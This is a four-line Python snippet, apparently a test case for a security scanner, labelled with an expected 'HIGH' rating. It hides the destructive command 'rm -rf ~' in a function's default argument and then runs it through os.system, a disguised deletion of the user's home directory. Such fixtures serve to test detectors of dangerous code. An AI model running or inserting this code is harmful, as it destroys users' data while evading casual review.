# expect: HIGH
import os
def f(x="rm -rf ~"): pass
os.system(f.__defaults__[0])
